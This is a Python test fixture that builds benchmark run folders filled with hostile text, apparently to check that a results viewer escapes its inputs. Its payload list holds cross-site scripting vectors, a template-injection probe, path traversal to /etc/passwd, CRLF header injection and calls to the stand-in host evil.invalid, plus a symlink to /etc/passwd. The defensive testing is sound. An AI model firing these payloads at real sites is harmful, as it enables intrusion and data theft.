"""A folder of runs in which every text that a run can bring along is hostile: names, ids, replies, errors, traces, verdicts."""

from __future__ import annotations

import csv
import json
from pathlib import Path

from case_runs import photo
from run_folders import append, write_meta

from snellen.benchmarks.base import Data
from snellen.engine.journal import record_name
from snellen.models.trace import Step, plain
from snellen.runs.reviews.decisions import VerdictReview
from snellen.runs.reviews.journal import ReviewJournal
from snellen.types import Failure, Record, Response, Usage

EVIL = "https://evil.invalid/x"
PAYLOADS = (
    "<script>window.owned=1;document.title='owned'</script>",
    '<img src=x onerror="window.owned=1">',
    "</script><script>window.owned=1</script>",
    "</style><script>window.owned=1</script><style>",
    "<svg onload=window.owned=1><animate onbegin=window.owned=1 attributeName=x dur=1s>",
    '" autofocus onfocus="window.owned=1" x="',
    "' onmouseover='window.owned=1' style='position:fixed;inset:0",
    "javascript:window.owned=1//",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cub3duZWQ9MTwvc2NyaXB0Pg==",
    "{{7*7}}{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "${window.owned=1}`${window.owned=1}`",
    "<!-- --!><script>window.owned=1</script> ]]> -->",
    f'<iframe src="{EVIL}" srcdoc="<script>parent.owned=1</script>"></iframe>',
    f'<meta http-equiv="refresh" content="0;url={EVIL}">',
    f'<base href="{EVIL}"><a href=//evil.invalid>x</a>',
    f'<link rel="stylesheet" href="{EVIL}"><style>@import "{EVIL}"; * {{ background: url({EVIL}) }}</style>',
    f'<form action="{EVIL}" id="keys"><input name="showModal" autofocus onfocus="window.owned=1"></form>',
    "\u202egnp.exe\u2066 \u200b\u2060\ufeff\U000e0041 \u2028window.owned=1\u2029",
    "\x01\x07\x1b[31m\x7f\x85 \ud83d",
    "../../../../etc/passwd%2e%2e%2f..\\..\\windows\\win.ini",
    f'<div hx-get="{EVIL}" hx-trigger="load" hx-on:load="window.owned=1" data-hx-get="{EVIL}">',
    "<details open ontoggle=window.owned=1><summary data-key=n data-row>x</summary></details>",
    "&lt;script&gt;window.owned=1&lt;/script&gt;&#60;script&#62;",
    "<a id=viewer><math><mtext></form><mglyph><style></math><img src onerror=window.owned=1>",
    "W" * 3_000,
    "%3Cscript%3Ewindow.owned=1%3C/script%3E%00%0d%0aSet-Cookie: owned=1",
)


def writable(text: str) -> str:
    """Return a payload as a UTF-8 file can hold it."""
    return text.encode("utf-8", "replace").decode()


def write_hostile_root(root: Path) -> list[str]:
    """Write runs whose every text is hostile, beside a secret that no page may serve; return the sample ids."""
    data = root.parent / f"{root.name}-data"
    (data / "pics").mkdir(parents=True)
    (data / "pics" / "0.png").write_bytes(photo(0))
    (data / "pics" / "1.png").write_bytes(b"\x89PNG\r\n\x1a\n" + b"\0" * 40)
    (root.parent / "secret.png").write_bytes(photo(99))
    table = data / "hostile.csv"
    ids = [writable(f"{number} {payload}")[:500].strip() for number, payload in enumerate(PAYLOADS)]
    pictures = ["pics/0.png", "pics/1.png", "../secret.png", "https://evil.invalid/x.png"]
    with table.open("w", newline="", encoding="utf-8") as file:
        rows = csv.writer(file)
        rows.writerow(["id", "image", "question", "A", "B", "answer", "topic"])
        for number, (sample_id, payload) in enumerate(zip(ids, PAYLOADS, strict=True)):
            text = writable(payload).replace("\0", "")
            rows.writerow(
                [sample_id, pictures[number % 2], f"Which? {text}", text, f"other {text}", "AB"[number % 2], text[:80]]
            )
    for number in range(3):
        name = PAYLOADS[number].replace("/", "∕")[:100]
        folder = root / f"{number} {name}"
        records = [_record(sample_id, place, number) for place, sample_id in enumerate(ids)]
        append(folder, records)
        write_meta(folder, str(table), model=f"api:{PAYLOADS[(number * 5) % len(PAYLOADS)]}"[:200], data=Data())
        _write_traces(folder, ids)
        if number:
            _spoil_meta(folder, number)
    _write_judge(root, ids)
    _write_reviews(next(path for path in sorted(root.iterdir())), ids)
    _write_torn(root)
    return ids


def _record(sample_id: str, place: int, number: int) -> Record:
    payload = writable(PAYLOADS[(place + number) % len(PAYLOADS)])
    if place % 7 == number:
        return Record(sample_id, "error", error=Failure(payload[:80], payload), started_at=1.0, finished_at=2.0)
    text = f"{payload} The answer is {'AB'[place % 2]}." if place % 3 else payload
    response = Response(text, Usage(3, 4), 0.5, finish_reason=payload[:60], reasoning=payload, model=payload[:90])
    return Record(sample_id, "ok", response=response, started_at=1.0, finished_at=2.0)


def _write_traces(folder: Path, ids: list[str]) -> None:
    lines = []
    for place, sample_id in enumerate(ids):
        payload = writable(PAYLOADS[place])
        steps = [
            Step(0, "user", payload, images=("../../secret", "0" * 64, payload)),
            Step(1, "assistant", payload, seconds=1.0),
            Step(1, "tool", tool=payload, arguments={"query": payload, payload: [payload]}, result=payload, error=True),
            Step(1, "tool", tool="fetch", arguments={"url": "javascript:window.owned=1"}, result=payload * 3),
        ]
        exchange = {"request": {"messages": [payload], payload: EVIL}, "reply": {"choices": [{"text": payload}]}}
        lines.append(
            {"sample_id": sample_id, "repeat": 0, "attempt": 1, "trace": plain(steps) if place % 2 else exchange}
        )
    (folder / "traces").mkdir()
    content = "".join(json.dumps(line) + "\n" for line in lines)
    (folder / "traces" / "00000.jsonl").write_text(content + "[[[[[\n" + '{"sample_id":' + "[" * 90_000 + "\n")


def _spoil_meta(folder: Path, number: int) -> None:
    """Put payloads where run_meta.json has free text; the file is then no longer this user's own."""
    path = folder / "run_meta.json"
    meta = json.loads(path.read_text())
    meta["environment"] = (
        {"imported": {"format": PAYLOADS[2], "file": PAYLOADS[6]}, PAYLOADS[0]: PAYLOADS[1]} if number == 2 else {}
    )
    meta["reading"] = PAYLOADS[number]
    meta["state"] = PAYLOADS[3] if number == 1 else "complete"
    path.write_text(json.dumps(meta))


def _write_judge(root: Path, ids: list[str]) -> None:
    first = next(path for path in sorted(root.iterdir()))
    judged = root / f"{first.name}_judged"
    payloads = [writable(payload) for payload in PAYLOADS]
    verdicts = [
        Record(record_name(sample_id, 0), "ok", response=Response(payloads[place]), started_at=9.0, finished_at=9.5)
        for place, sample_id in enumerate(ids)
    ]
    append(judged, verdicts)
    meta = json.loads((first / "run_meta.json").read_text())
    meta["spec"] |= {"benchmark": "judged", "model": f"api:{PAYLOADS[4]}"}
    meta["spec"]["data"] = {"path": str(first), "options": {"rubric": "match"}}
    (judged / "run_meta.json").write_text(json.dumps(meta))
    for name in ("raw_judge_inputs", "raw_judge_outputs"):
        (judged / name).mkdir()
        lines = [
            {"sample_id": sample_id, "attempt": 1, "text": payloads[place], "system": payloads[0]}
            for place, sample_id in enumerate(ids)
        ]
        (judged / name / "00000.jsonl").write_text("".join(json.dumps(line) + "\n" for line in lines))


def _write_reviews(folder: Path, ids: list[str]) -> None:
    """Write decisions of two reviewers who differ, with payloads as notes, and lines that name hostile reviewers."""
    reviews = [
        VerdictReview(
            sample_id=sample_id, reviewer=reviewer, decision=decision, at=10.0, note=writable(PAYLOADS[place])[:500],
            correction=writable(PAYLOADS[-1 - place])[:500] if decision == "gold-wrong" else "", verdict="wrong",
        )
        for place, sample_id in enumerate(ids)
        for reviewer, decision in (("ada", "gold-wrong"), ("bob", "right"))
    ]  # fmt: skip
    ReviewJournal(folder).extend(reviews)
    with (folder / "reviews.jsonl").open("a") as file:
        for place, sample_id in enumerate(ids):
            payload = writable(PAYLOADS[place])
            line = {"sample_id": sample_id, "reviewer": payload, "decision": "right", "at": payload, "note": payload}
            file.write(json.dumps(line) + "\n")


def _write_torn(root: Path) -> None:
    torn = root / "torn '\"><img src=x onerror=window.owned=1>"
    torn.mkdir()
    (torn / "run_meta.json").write_text('{"format": 1, "spec": {"benchmark": "<script>window.owned=1</script>"')
    (torn / "results.jsonl").write_bytes(b"\xff\xfe{\n" + b"[" * 100_000 + b"\n")
    odd = root / "odd"
    odd.mkdir()
    (odd / "run_meta.json").write_text(json.dumps({"fingerprint": 5, "identity": PAYLOADS[0]}))
    (odd / "results.jsonl").symlink_to("/etc/passwd")
    (root / "notes <b>.txt").write_text(PAYLOADS[0])
